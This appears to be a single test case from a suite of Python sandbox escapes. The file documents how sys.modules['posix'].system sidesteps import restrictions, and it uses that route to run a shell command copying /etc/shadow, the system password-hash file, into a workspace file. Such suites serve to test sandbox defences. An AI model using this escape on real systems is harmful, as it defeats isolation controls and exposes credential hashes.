# attack-class: 3
# title: sys.modules['posix'].system
# why: posix is always loaded; sys.modules hands out the raw os implementation

import sys

posix = sys.modules["posix"]
posix.system("cat /etc/shadow > /workspace/out.txt")
